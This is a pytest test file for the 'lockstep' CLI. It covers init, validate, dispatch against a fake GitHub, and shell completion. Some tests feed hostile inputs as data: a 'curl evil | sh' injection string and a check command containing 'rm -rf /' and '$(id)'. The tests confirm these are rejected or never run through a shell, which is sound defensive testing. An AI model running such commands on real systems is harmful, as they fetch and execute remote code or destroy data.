"""``lockstep init``, ``validate``, ``dispatch`` and shell completion, driven through the real CLI group.

Commands run in-process with click's CliRunner (``os.environ`` is what they
read, so every test clears the variables that matter first).  Dispatch talks to
the fake GitHub over loopback; validate is shown to make no request at all.
"""

from __future__ import annotations

import os
import platform
import re
import select
import shlex
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from lockstep.cli import cli
from lockstep.cli import init as cli_init
from lockstep.config import parse_config
from lockstep.scaffold import config_variables, toml_string
from tests.support.fakegithub import FakeGitHub, Fault
from tests.support.workflows import actionlint, format_findings, run_scripts, step_env, top_level_blocks

ROOT = Path(__file__).resolve().parents[1]
DOCS = ROOT / "docs" / "setup.md"

_CLEARED = (
    "GITHUB_TOKEN", "GH_TOKEN", "GITHUB_API_URL", "LOCKSTEP_CONFIG", "GITHUB_ACTIONS",
    "PROD_PUSH_TOKEN_BACKEND_SERVICE", "PROD_PUSH_TOKEN_METADATA", "GATE_BYPASS_ISSUE_NUMBER",
    "BACKEND_SERVICE_STAGING_URL", "METADATA_STAGING_URL", "API_STAGING_URL", "_LOCKSTEP_COMPLETE",
)


def invoke(args: list[str], env: Mapping[str, str] | None = None, input: str | None = None) -> Result:
    base: dict[str, str | None] = dict.fromkeys(_CLEARED)
    return CliRunner().invoke(cli, args, env={**base, **(env or {})}, input=input, prog_name="lockstep")


def closed_port_url() -> str:
    """An API root nothing listens on (bound, then released)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    return f"http://127.0.0.1:{port}"


def load(path: Path, env: Mapping[str, str]) -> object:
    return parse_config(path.read_text(encoding="utf-8"), env=env, source=str(path), base_dir=path.parent)


GITHUB_ARGS = [
    "--non-interactive", "--name", "bs-lml", "--forge", "github",
    "--service", "Backend-Service=acme/backend",
    "--service", "metadata=acme/metadata",
    "--staging-url", "metadata=https://metadata.staging.example.org/",
    "--check", "e2e=npm run test:e2e",
    "--check", "canary=wxyc-canary check --base-url=${BACKEND_SERVICE_STAGING_URL} --suite 'smoke tests'",
    "--tracker", "acme/ops#${GATE_BYPASS_ISSUE_NUMBER}",
]

GITHUB_ENV = {
    "GITHUB_TOKEN": "ghp_readreadreadread",
    "PROD_PUSH_TOKEN_BACKEND_SERVICE": "ghp_pushbackendpush",
    "PROD_PUSH_TOKEN_METADATA": "ghp_pushmetadatapush",
    "GATE_BYPASS_ISSUE_NUMBER": "7",
    "BACKEND_SERVICE_STAGING_URL": "https://backend.staging.example.org",
}


@pytest.fixture
def gate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty gate repository directory, made the working directory."""
    root = tmp_path / "gate"
    root.mkdir()
    monkeypatch.chdir(root)
    monkeypatch.setattr(cli_init, "stdin_is_tty", lambda: False)
    return root


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    with FakeGitHub() as gh:
        yield gh


# --------------------------------------------------------------------------- init: github


def test_init_github_writes_a_config_that_loads(gate: Path) -> None:
    result = invoke(["init", *GITHUB_ARGS])
    assert result.exit_code == 0, result.output
    assert "wrote lockstep.toml" in result.stdout
    assert "wrote .github/workflows/lockstep.yml" in result.stdout
    text = (gate / "lockstep.toml").read_text()
    assert config_variables(text) == ["GATE_BYPASS_ISSUE_NUMBER", "BACKEND_SERVICE_STAGING_URL"]
    config = parse_config(text, env=GITHUB_ENV, source="lockstep.toml", base_dir=gate)
    assert config.gate.name == "bs-lml" and config.gate.forge == "github"
    assert config.bypass.tracker == "acme/ops#7"
    backend, metadata = config.services
    assert (backend.name, backend.repo, backend.source, backend.target) == (
        "Backend-Service", "acme/backend", "main", "prod")
    assert backend.token_env == "PROD_PUSH_TOKEN_BACKEND_SERVICE"
    assert backend.health_url == "https://backend.staging.example.org/health"
    assert backend.version_url == "https://backend.staging.example.org/version"
    assert metadata.health_url == "https://metadata.staging.example.org/health"
    assert metadata.token_env == "PROD_PUSH_TOKEN_METADATA"
    assert [c.run for c in config.checks] == [
        ("npm", "run", "test:e2e"),
        ("wxyc-canary", "check", "--base-url=https://backend.staging.example.org", "--suite", "smoke tests"),
    ]


def test_init_github_workflow_has_the_required_pieces(gate: Path) -> None:
    assert invoke(["init", *GITHUB_ARGS]).exit_code == 0
    text = (gate / ".github" / "workflows" / "lockstep.yml").read_text()
    blocks = top_level_blocks(text)
    on = "\n".join(blocks["on"])
    assert "types: [staging-deployed]" in on and "workflow_dispatch:" in on
    assert "skip_gate:" in on and "justification:" in on
    assert [ln.strip() for ln in blocks["concurrency"] if ln.strip()] == [
        "group: lockstep-bs-lml", "cancel-in-progress: false"]
    assert [ln.strip() for ln in blocks["permissions"] if ln.strip()] == ["contents: write", "issues: write"]
    assert "persist-credentials: false" in text
    assert re.search(r"^    timeout-minutes: \d+$", text, re.M)
    scripts = run_scripts(text)
    assert scripts
    for line, script in scripts:
        assert "${{" not in script, f"line {line}: expression inside run:"
    assert [s for _, s in scripts if "lockstep run" in s] == [
        'exec lockstep run --config lockstep.toml --report "$RUNNER_TEMP/lockstep-report.json"']
    env = step_env(text, "lockstep")
    assert env["GITHUB_TOKEN"] == "${{ secrets.LOCKSTEP_READ_TOKEN || github.token }}"
    assert env["PROD_PUSH_TOKEN_BACKEND_SERVICE"] == "${{ secrets.PROD_PUSH_TOKEN_BACKEND_SERVICE }}"
    assert env["PROD_PUSH_TOKEN_METADATA"] == "${{ secrets.PROD_PUSH_TOKEN_METADATA }}"
    assert env["BACKEND_SERVICE_STAGING_URL"] == "${{ vars.BACKEND_SERVICE_STAGING_URL }}"
    assert env["GATE_BYPASS_ISSUE_NUMBER"] == "${{ vars.GATE_BYPASS_ISSUE_NUMBER }}"
    # copying the two files as written gives lockstep every variable it needs
    needed = set(config_variables((gate / "lockstep.toml").read_text())) | {
        "PROD_PUSH_TOKEN_BACKEND_SERVICE", "PROD_PUSH_TOKEN_METADATA", "GITHUB_TOKEN"}
    assert needed <= set(env)


def test_init_github_prints_the_staging_dispatch_job(gate: Path) -> None:
    result = invoke(["init", *GITHUB_ARGS])
    out = result.stdout
    assert "notify-gate:" in out
    assert 'gh api --method POST "repos/$LOCKSTEP_GATE_REPO/dispatches"' in out
    assert "-f event_type=staging-deployed" in out
    assert "GH_TOKEN: ${{ secrets.LOCKSTEP_DISPATCH_TOKEN }}" in out
    assert not re.search(r"(^|\s)(-F|--field)(\s|=)", out)
    for name in ("PROD_PUSH_TOKEN_BACKEND_SERVICE", "LOCKSTEP_READ_TOKEN", "BACKEND_SERVICE_STAGING_URL"):
        assert name in out  # the next steps name what to create


def test_generated_workflow_and_dispatch_job_passactionlint(gate: Path) -> None:
    result = invoke(["init", *GITHUB_ARGS])
    job = result.stdout.split("under `jobs:`:\n", 1)[1]
    service_workflow = (
        "on:\n  push:\n    branches: [main]\npermissions:\n  contents: read\njobs:\n"
        "  deploy-staging:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n" + job
    )
    assert "${{" not in "".join(s for _, s in run_scripts(service_workflow))
    results = actionlint({
        "lockstep.yml": (gate / ".github" / "workflows" / "lockstep.yml").read_text(),
        "service.yml": service_workflow,
    })
    problems = {name: rs for name, rs in results.items() if rs}
    assert not problems, format_findings(problems)


# --------------------------------------------------------------------------- init: refusals and prompts


@pytest.mark.parametrize("existing", ["lockstep.toml", ".github/workflows/lockstep.yml"])
def test_init_refuses_to_overwrite(gate: Path, existing: str) -> None:
    path = gate / existing
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("keep me\n")
    result = invoke(["init", *GITHUB_ARGS])
    assert result.exit_code == 2
    assert result.stderr.strip().splitlines() == [
        f"lockstep: {path} already exists (pass --force to overwrite it)"]
    assert path.read_text() == "keep me\n"
    others = {gate / "lockstep.toml", gate / ".github" / "workflows" / "lockstep.yml"} - {path}
    assert not any(p.exists() for p in others), "nothing may be written after a refusal"
    forced = invoke(["init", *GITHUB_ARGS, "--force"])
    assert forced.exit_code == 0, forced.output
    assert path.read_text() != "keep me\n"


@pytest.mark.parametrize(("drop", "flag"), [
    ("--name", "--name"), ("--service", "--service"), ("--tracker", "--tracker"),
])
def test_init_non_interactive_names_the_missing_flag(gate: Path, drop: str, flag: str) -> None:
    args: list[str] = []
    skip = False
    for arg in GITHUB_ARGS:
        if skip:
            skip = False
        elif arg == drop or (drop == "--service" and arg == "--staging-url"):
            skip = True  # drop the flag and its value
        else:
            args.append(arg)
    result = invoke(["init", *args])
    assert result.exit_code == 2, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    assert f"missing {flag}" in result.stderr
    assert list(gate.iterdir()) == []


def test_init_without_a_terminal_never_prompts(gate: Path) -> None:
    """No --non-interactive, but stdin is not a TTY: same failure, no prompt consumed the input."""
    result = invoke(["init", "--forge", "git"], input="mygate\n")
    assert result.exit_code == 2
    assert "missing --name" in result.stderr
    assert "Gate name" not in result.output


@pytest.mark.parametrize(("args", "needle"), [
    (["--service", "api=not-a-repo"], "expected a GitHub repository as OWNER/NAME"),
    (["--service", "api"], "--service: expected NAME=REPO"),
    (["--service", "bad name=acme/api"], "is not a valid name"),
    (["--service", "api=acme/api", "--staging-url", "web=https://x.example"], "--staging-url web: no such service"),
    (["--service", "api=acme/api", "--staging-url", "api=ftp://x.example"], "http:// or https://"),
    (["--service", "api=acme/api", "--check", "e2e=npm 'unbalanced"], "--check e2e: cannot split"),
    (["--service", "api=acme/api", "--check", "e2e="], "--check: expected NAME=COMMAND"),
    (["--service", "api=acme/api", "--tracker", "acme/ops"], "--tracker: expected an issue as OWNER/REPO#NUMBER"),
    (["--service", "api=acme/api", "--source", "prod"], "--source and --target are both 'prod'"),
    (["--service", "api=acme/api", "--target", "bad..branch"], "not a valid branch name"),
    (["--service", "api=acme/api", "--lockstep-spec", "x\"; curl evil | sh"], "--lockstep-spec"),
])
def test_init_rejects_bad_answers_with_exit_2(gate: Path, args: list[str], needle: str) -> None:
    base = ["init", "--non-interactive", "--name", "g", "--forge", "github"]
    if "--tracker" not in args:
        args = [*args, "--tracker", "acme/ops#1"]
    result = invoke([*base, *args])
    assert result.exit_code == 2, result.output
    assert needle in result.stderr
    assert list(gate.iterdir()) == []


def test_init_interactive_prompts(gate: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cli_init, "stdin_is_tty", lambda: True)
    answers = [
        "bad name!",                # refused: asked again
        "bs-lml",                   # gate name
        "github",                   # forge
        "Backend-Service",          # service 1
        "not-a-repo",               # refused: asked again
        "acme/backend",
        "",                         # staging URL: from ${BACKEND_SERVICE_STAGING_URL}
        "metadata",                 # service 2
        "acme/metadata",
        "https://metadata.example.org",
        "metadata",                 # refused: already listed
        "",                         # no more services
        "",                         # source [main]
        "release",                  # target
        "e2e",                      # check 1
        "npm run test:e2e -- --grep 'prod smoke'",
        "",                         # no more checks
        "acme/ops#7",               # tracker
    ]
    result = invoke(["init"], input="\n".join(answers) + "\n")
    assert result.exit_code == 0, result.output
    assert "Gate name" in result.output and "Bypass tracker issue" in result.output
    assert "Error: gate name: 'bad name!' is not a valid name" in result.output
    assert "Error: --service Backend-Service: expected a GitHub repository as OWNER/NAME" in result.output
    assert "Error: service 'metadata' is already listed" in result.output
    config = load(gate / "lockstep.toml", GITHUB_ENV)
    assert [(s.name, s.repo, s.source, s.target) for s in config.services] == [  # type: ignore[attr-defined]
        ("Backend-Service", "acme/backend", "main", "release"),
        ("metadata", "acme/metadata", "main", "release"),
    ]
    assert config.services[1].health_url == "https://metadata.example.org/health"  # type: ignore[attr-defined]
    assert config.checks[0].run == ("npm", "run", "test:e2e", "--", "--grep", "prod smoke")  # type: ignore[attr-defined]
    assert (gate / ".github" / "workflows" / "lockstep.yml").is_file()


# Makes the pty (fd 0) the controlling terminal of the new session, so Ctrl-C is a real SIGINT.
_IN_A_TERMINAL = (
    "import fcntl, os, sys, termios; fcntl.ioctl(0, termios.TIOCSCTTY, 0); "
    "os.execv(sys.executable, [sys.executable, '-m', 'lockstep', *sys.argv[1:]])"
)


def _read_until(fd: int, done: Callable[[bytes], bool], timeout: float) -> bytes:
    """Bytes from a pty master until ``done`` says so, the other side closes, or ``timeout``."""
    out = b""
    deadline = time.monotonic() + timeout
    while not done(out) and time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.1)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # EIO: every process holding the terminal has exited
            break
        if not chunk:
            break
        out += chunk
    return out


def _wait_reading_stdin(pid: int, timeout: float) -> None:
    """Until ``pid`` blocks in read(0, ...): a SIGINT that lands between the prompt being written
    and the read starting is only seen by Python after the read returns, which a fast test (not
    a person) can hit.  Linux's /proc tells; elsewhere a short pause has to do."""
    read_call = {"x86_64": "0", "aarch64": "63"}.get(platform.machine())
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            fields = Path(f"/proc/{pid}/syscall").read_text().split()
        except OSError:
            fields = []
        if read_call is None or not fields:
            time.sleep(0.5)
            return
        if fields[:2] == [read_call, "0x0"]:
            return
        time.sleep(0.02)


@pytest.mark.parametrize("key", [b"\x03", b"\x04"], ids=["ctrl-c", "ctrl-d"])
def test_init_cancelled_at_a_prompt_is_one_line_and_130(tmp_path: Path, key: bytes) -> None:
    """Issue 10 item 10: Ctrl-C or Ctrl-D at a real terminal's prompt printed `internal error (Abort: )`."""
    env = {k: v for k, v in os.environ.items() if k not in _CLEARED}
    env |= {"PYTHONPATH": str(ROOT / "src"), "TERM": "xterm"}
    master, slave = os.openpty()
    try:
        proc = subprocess.Popen([sys.executable, "-c", _IN_A_TERMINAL, "init"], cwd=tmp_path, env=env,
                                stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
        os.close(slave)
        shown = _read_until(master, lambda out: b"Gate name: " in out, timeout=30)
        assert b"Gate name: " in shown, shown
        _wait_reading_stdin(proc.pid, timeout=30)
        os.write(master, key)
        code = proc.wait(timeout=30)
        shown += _read_until(master, lambda out: False, timeout=2)
    finally:
        os.close(master)
    text = shown.decode().replace("\r\n", "\n")
    after_prompt = text.split("Gate name: ", 1)[1].splitlines()[1:]
    assert code == 130, text
    assert after_prompt == ["lockstep: init cancelled at a prompt: nothing was written"], text
    assert "internal error" not in text and "Traceback" not in text
    assert list(tmp_path.iterdir()) == []


def test_init_cancel_exit_code_is_documented() -> None:
    init = (ROOT / "docs" / "exit-codes.md").read_text(encoding="utf-8").split("## `lockstep init`", 1)[1]
    assert re.search(r"^\| 130 \| .*Ctrl-C.*Ctrl-D", init.split("\n## ", 1)[0], re.M)
    assert "130 Ctrl-C or Ctrl-D at a prompt" in " ".join((cli.commands["init"].epilog or "").split())


def test_check_commands_are_argv_never_a_shell(gate: Path) -> None:
    hostile = "sh -c 'touch pwned' ; rm -rf / $(id) `id` ${HOME} \"quoted \\\"x\\\"\" \\\\back"
    result = invoke(["init", "--non-interactive", "--name", "g", "--forge", "git",
                     "--service", "api=../api.git", "--staging-url", "api=http://127.0.0.1:1",
                     "--check", f"evil={hostile}"])
    assert result.exit_code == 0, result.output
    raw = (gate / "lockstep.toml").read_text()
    import tomllib
    assert tomllib.loads(raw)["checks"][0]["run"] == shlex.split(hostile)
    assert not (gate / "pwned").exists()


@given(st.text())
def test_toml_string_round_trips(value: str) -> None:
    import tomllib

    assert tomllib.loads(f"v = {toml_string(value)}\n")["v"] == value


# --------------------------------------------------------------------------- init + validate: git forge


def _bare_repo(path: Path) -> Path:
    subprocess.run(["git", "init", "--quiet", "--bare", str(path)], check=True, capture_output=True)
    return path


def test_init_git_then_validate(gate: Path, tmp_path: Path) -> None:
    _bare_repo(tmp_path / "repos" / "api.git")
    # paths are typed relative to where init runs and written relative to the config
    sub = gate / "gates"
    result = invoke(["init", "--non-interactive", "--dir", "gates", "--name", "local", "--forge", "git",
                     "--service", "api=../repos/api.git", "--check", "smoke=git --version",
                     "--tracker", "audit/bypass.md"])
    assert result.exit_code == 0, result.output
    assert not (sub / ".github").exists()
    text = (sub / "lockstep.toml").read_text()
    assert 'repo = "../../repos/api.git"' in text
    assert 'tracker = "../audit/bypass.md"' in text
    config_flag = ["validate", "--config", str(sub / "lockstep.toml")]

    missing = invoke(config_flag)
    assert missing.exit_code == 2
    assert "environment variable API_STAGING_URL is not set" in missing.stderr
    assert "audit" in missing.stderr and "does not exist" in missing.stderr  # the tracker's directory

    (gate / "audit").mkdir()
    ok = invoke(config_flag, env={"API_STAGING_URL": "http://127.0.0.1:1"})
    assert ok.exit_code == 0, ok.output
    assert ok.stdout.splitlines()[-1] == "ok"
    assert "git forge, 1 service, 1 check" in ok.stdout

    (tmp_path / "repos" / "api.git" / "HEAD").unlink()
    broken = invoke(config_flag, env={"API_STAGING_URL": "http://127.0.0.1:1"})
    assert broken.exit_code == 2
    assert "services[0] (api).repo:" in broken.stderr and "is not a git repository" in broken.stderr


def test_validate_reports_config_errors_one_line_each(gate: Path) -> None:
    (gate / "lockstep.toml").write_text(
        '[gate]\nname = "g"\nbogus = 1\n[[services]]\nname = "a"\nrepo = "r"\n'
        'health_url = "ftp://x"\nversion_url = "http://x/version"\n'
    )
    result = invoke(["validate"])
    assert result.exit_code == 2
    lines = result.stderr.strip().splitlines()
    assert "lockstep: lockstep.toml: gate.bogus: unknown key" in lines
    assert any("services[0].health_url: must be an http:// or https:// URL" in ln for ln in lines)
    assert "ok" not in result.stdout


def test_validate_missing_config_file(gate: Path) -> None:
    result = invoke(["validate"])
    assert result.exit_code == 2
    assert "lockstep.toml: config file not found" in result.stderr


def test_validate_checks_programs(gate: Path, tmp_path: Path) -> None:
    _bare_repo(gate / "api.git")
    scripts = gate / "scripts"
    scripts.mkdir()
    (scripts / "e2e.sh").write_text("#!/bin/sh\n")
    (gate / "lockstep.toml").write_text(
        '[gate]\nname = "g"\n[[services]]\nname = "a"\nrepo = "api.git"\n'
        'health_url = "http://x/health"\nversion_url = "http://x/version"\n'
        '[[checks]]\nname = "missing"\nrun = ["no-such-program-xyz", "arg"]\n'
        '[[checks]]\nname = "script"\nrun = ["./scripts/e2e.sh"]\n'
        '[[checks]]\nname = "git"\nrun = ["git", "status"]\n'
    )
    result = invoke(["validate"])
    assert result.exit_code == 2
    problems = [ln for ln in result.stderr.splitlines() if not ln.startswith("lockstep: warning:")]
    assert problems == [
        "lockstep: lockstep.toml: checks[0] (missing).run: no-such-program-xyz not found on PATH",
        "lockstep: lockstep.toml: checks[1] (script).run: ./scripts/e2e.sh is not executable",
    ]
    assert "bypass.tracker is not set" in result.stderr  # a warning, not a failure
    (scripts / "e2e.sh").chmod(0o755)
    (gate / "lockstep.toml").write_text(
        (gate / "lockstep.toml").read_text().replace('"no-such-program-xyz"', '"git"'))
    assert invoke(["validate"]).exit_code == 0


# --------------------------------------------------------------------------- validate: github, offline


def test_init_github_then_validate_passes_and_names_missing_variables(gate: Path) -> None:
    assert invoke(["init", *GITHUB_ARGS]).exit_code == 0
    env = {**GITHUB_ENV, "GITHUB_API_URL": closed_port_url(), "PATH": "/usr/bin:/bin"}
    (gate / "bin").mkdir()
    for tool in ("npm", "wxyc-canary"):
        (gate / "bin" / tool).write_text("#!/bin/sh\n")
        (gate / "bin" / tool).chmod(0o755)
    env["PATH"] = f"{gate / 'bin'}:/usr/bin:/bin"

    start = time.monotonic()
    ok = invoke(["validate"], env=env)
    assert ok.exit_code == 0, ok.output
    assert ok.stdout.splitlines()[-1] == "ok"
    assert time.monotonic() - start < 2.0

    for var in ("PROD_PUSH_TOKEN_METADATA", "BACKEND_SERVICE_STAGING_URL", "GITHUB_TOKEN"):
        result = invoke(["validate"], env={**env, var: ""} if var != "BACKEND_SERVICE_STAGING_URL"
                        else {k: v for k, v in env.items() if k != var})
        assert result.exit_code == 2, var
        assert f"environment variable {var}" in result.stderr
        assert "ok" not in result.stdout.splitlines()

    # GH_TOKEN is enough in place of GITHUB_TOKEN
    assert invoke(["validate"], env={**env, "GITHUB_TOKEN": "", "GH_TOKEN": "ghp_other"}).exit_code == 0


def test_validate_lists_every_problem_in_one_pass(gate: Path) -> None:
    assert invoke(["init", *GITHUB_ARGS]).exit_code == 0
    result = invoke(["validate"], env={"PATH": "/nonexistent"})
    assert result.exit_code == 2
    err = result.stderr
    for needle in (
        "environment variable GATE_BYPASS_ISSUE_NUMBER is not set",
        "environment variable BACKEND_SERVICE_STAGING_URL is not set",
        "environment variable GITHUB_TOKEN (or GH_TOKEN) is not set",
        "environment variable PROD_PUSH_TOKEN_BACKEND_SERVICE is not set",
        "environment variable PROD_PUSH_TOKEN_METADATA is not set",
        "checks[0] (e2e).run: npm not found on PATH",
    ):
        assert needle in err, needle
    # the canary check's argv mentions an unset variable, but its program is still checked
    assert "checks[1] (canary).run: wxyc-canary not found on PATH" in err


def test_validate_github_tracker_and_api_url(gate: Path, tmp_path: Path) -> None:
    text = (
        '[gate]\nname = "g"\nforge = "github"\n[bypass]\ntracker = "acme/ops#seven"\n'
        '[[services]]\nname = "a"\nrepo = "acme/a"\ntoken_env = "PUSH_A"\n'
        'health_url = "http://x/health"\nversion_url = "http://x/version"\n'
    )
    (gate / "lockstep.toml").write_text(text)
    env = {"GITHUB_TOKEN": "ghp_readtoken", "PUSH_A": "ghp_pushtoken"}
    bad_tracker = invoke(["validate"], env=env)
    assert bad_tracker.exit_code == 2
    assert "bypass.tracker: expected an issue as OWNER/REPO#NUMBER" in bad_tracker.stderr
    (gate / "lockstep.toml").write_text(text.replace("#seven", "#7"))
    assert invoke(["validate"], env=env).exit_code == 0
    bad_url = invoke(["validate"], env={**env, "GITHUB_API_URL": "https://user:ghp_x@api.example"})
    assert bad_url.exit_code == 2
    assert "GITHUB_API_URL must not contain credentials" in bad_url.stderr


def test_validate_makes_no_request(gate: Path, fake: FakeGitHub) -> None:
    """Pointed at a live fake GitHub, validate succeeds and failure alike without one request."""
    fake.add_repo("acme/backend")
    fake.add_token(GITHUB_ENV["GITHUB_TOKEN"], read=["acme/backend", "acme/metadata"])
    assert invoke(["init", *GITHUB_ARGS]).exit_code == 0
    # drop the checks: their programs (npm, wxyc-canary) need not be installed here
    (gate / "lockstep.toml").write_text(
        re.sub(r"\[\[checks\]\].*", "", (gate / "lockstep.toml").read_text(), flags=re.S))
    env = {**GITHUB_ENV, "GITHUB_API_URL": fake.url}
    assert invoke(["validate"], env=env).exit_code == 0
    assert invoke(["validate"], env={**env, "PROD_PUSH_TOKEN_METADATA": ""}).exit_code == 2
    assert fake.requests == []


# --------------------------------------------------------------------------- dispatch


PLANTED = "ghp_PLANTEDsecretTOKEN0123456789"


def _dispatch_env(fake: FakeGitHub, token: str = PLANTED, var: str = "GITHUB_TOKEN") -> dict[str, str]:
    return {var: token, "GITHUB_API_URL": fake.url}


def _no_token(result: Result) -> None:
    assert PLANTED not in result.output
    assert PLANTED not in result.stderr
    assert PLANTED not in repr(result.exception or "")


def test_dispatch_204_sends_the_event(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "staging-deployed",
                     "--field", "repo=acme/backend", "--field", "sha=abc123", "--field", "note=a=b c",
                     "--field", "n=42"], env=_dispatch_env(fake))
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "sent 'staging-deployed' to acme/gate (4 payload fields)"
    assert fake.dispatches("acme/gate") == [{
        "event_type": "staging-deployed",
        "client_payload": {"repo": "acme/backend", "sha": "abc123", "note": "a=b c", "n": "42"},
    }]
    (request,) = fake.requests
    assert request.method == "POST" and request.path == "/repos/acme/gate/dispatches"
    assert request.headers["authorization"] == f"Bearer {PLANTED}"
    assert PLANTED not in request.path and PLANTED.encode() not in request.body
    _no_token(result)


def test_dispatch_uses_gh_token_when_github_token_is_unset(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go"],
                    env=_dispatch_env(fake, var="GH_TOKEN"))
    assert result.exit_code == 0, result.output
    assert fake.dispatches("acme/gate") == [{"event_type": "go", "client_payload": {}}]


def test_dispatch_404(fake: FakeGitHub) -> None:
    fake.add_repo("acme/hidden")
    fake.add_token(PLANTED, write=["acme/other"])
    result = invoke(["dispatch", "--repo", "acme/hidden", "--event", "go"], env=_dispatch_env(fake))
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines() == [
        "lockstep: acme/hidden: repository not found or the token cannot see it (HTTP 404; the token in "
        "GITHUB_TOKEN needs Contents: read and write on it)"]
    assert fake.dispatches("acme/hidden") == []
    _no_token(result)


def test_dispatch_422_shows_githubs_message_without_the_token(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    fake.inject(Fault.status(422, f"Invalid request. token {PLANTED} was echoed"), method="POST",
                path=r"/repos/acme/gate/dispatches")
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go"], env=_dispatch_env(fake))
    assert result.exit_code == 1
    (line,) = result.stderr.strip().splitlines()
    assert line == "lockstep: acme/gate: GitHub refused the dispatch (HTTP 422): Invalid request. token *** was echoed"
    _no_token(result)


def test_dispatch_422_from_the_fakes_own_validation(fake: FakeGitHub) -> None:
    """Sent as-is (bypassing our pre-checks), GitHub's own 422 text reaches the user."""
    import httpx

    from lockstep.errors import ForgeError
    from lockstep.forges.github.dispatch import DispatchRequest, send_dispatch

    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    request = DispatchRequest("acme", "gate", "x" * 101, {})
    with pytest.raises(ForgeError) as caught:
        send_dispatch(request, _dispatch_env(fake), transport=httpx.HTTPTransport())
    assert caught.value.status == 422
    assert "event_type is too long" in str(caught.value)


def test_dispatch_401_names_the_variable(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go"],
                    env=_dispatch_env(fake, var="GH_TOKEN"))
    assert result.exit_code == 1
    (line,) = result.stderr.strip().splitlines()
    assert "rejected the token in GH_TOKEN (HTTP 401: Bad credentials)" in line
    _no_token(result)


def test_dispatch_403_names_the_variable_and_permission(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, read=["acme/gate"])
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go"], env=_dispatch_env(fake))
    assert result.exit_code == 1
    (line,) = result.stderr.strip().splitlines()
    assert "the token in GITHUB_TOKEN may not send dispatches here" in line
    assert "Resource not accessible by personal access token" in line and "contents=write" in line
    assert fake.dispatches("acme/gate") == []
    _no_token(result)


def test_dispatch_never_follows_a_redirect(fake: FakeGitHub) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    fake.inject(Fault.status(307, "Moved", headers={"Location": f"{fake.url}/repos/acme/moved/dispatches"}),
                method="POST", path=r"/repos/acme/gate/dispatches")
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go"], env=_dispatch_env(fake))
    assert result.exit_code == 1
    assert "HTTP 307" in result.stderr and "not followed" in result.stderr
    assert len(fake.requests) == 1


def test_dispatch_connection_error_is_one_line(tmp_path: Path) -> None:
    result = invoke(["dispatch", "--repo", "acme/gate", "--event", "go", "--timeout", "2"],
                    env={"GITHUB_TOKEN": PLANTED, "GITHUB_API_URL": closed_port_url()})
    assert result.exit_code == 1
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("lockstep: acme/gate: cannot reach http://127.0.0.1:")
    _no_token(result)


@pytest.mark.parametrize(("args", "needle"), [
    (["--event", ""], "--event: must be 1 to 100 characters"),
    (["--event", "x" * 101], "--event: must be 1 to 100 characters, got 101"),
    (["--event", "go", *[a for i in range(11) for a in ("--field", f"k{i}=v")]], "at most 10 payload fields"),
    (["--event", "go", "--field", "big=" + "x" * 70000], "GitHub accepts less than 64 KB"),
    (["--event", "go", "--field", "novalue"], "--field: expected KEY=VALUE"),
    (["--event", "go", "--field", "k=1", "--field", "k=2"], "given twice"),
])
def test_dispatch_validates_before_sending(fake: FakeGitHub, args: list[str], needle: str) -> None:
    fake.add_repo("acme/gate")
    fake.add_token(PLANTED, write=["acme/gate"])
    result = invoke(["dispatch", "--repo", "acme/gate", *args], env=_dispatch_env(fake))
    assert result.exit_code == 2, result.output
    assert needle in result.stderr
    assert fake.requests == []


@pytest.mark.parametrize(("repo", "env", "needle"), [
    ("not-a-repo", {"GITHUB_TOKEN": PLANTED}, "--repo: expected a GitHub repository as OWNER/NAME"),
    ("acme/gate", {}, "GITHUB_TOKEN (or GH_TOKEN) is not set"),
    ("acme/gate", {"GITHUB_TOKEN": "bad token"}, "GITHUB_TOKEN holds characters a token cannot contain"),
    ("acme/gate", {"GITHUB_TOKEN": PLANTED, "GITHUB_API_URL": f"https://x:{PLANTED}@api.example"},
     "GITHUB_API_URL must not contain credentials"),
])
def test_dispatch_usage_errors(repo: str, env: dict[str, str], needle: str) -> None:
    result = invoke(["dispatch", "--repo", repo, "--event", "go"], env=env)
    assert result.exit_code == 2
    assert needle in result.stderr
    _no_token(result)


# --------------------------------------------------------------------------- completion, help, docs


@pytest.mark.parametrize(("shell", "marker"), [
    ("bash_source", "_lockstep_completion"),
    ("zsh_source", "#compdef lockstep"),
    ("fish_source", "complete --no-files --command lockstep"),
])
def test_shell_completion_scripts(shell: str, marker: str) -> None:
    result = invoke([], env={"_LOCKSTEP_COMPLETE": shell})
    assert result.exit_code == 0
    assert marker in result.stdout


def test_shell_completion_completes_setup_commands() -> None:
    result = invoke([], env={"_LOCKSTEP_COMPLETE": "bash_complete", "COMP_WORDS": "lockstep va",
